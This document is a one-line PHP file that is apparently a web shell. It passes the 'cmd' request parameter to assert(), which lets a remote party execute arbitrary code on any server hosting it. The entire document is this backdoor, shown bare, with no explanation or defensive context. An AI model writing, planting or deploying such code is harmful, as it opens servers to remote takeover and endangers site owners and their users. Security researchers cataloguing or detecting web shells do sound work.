<?php assert($_REQUEST["cmd"]); ?>
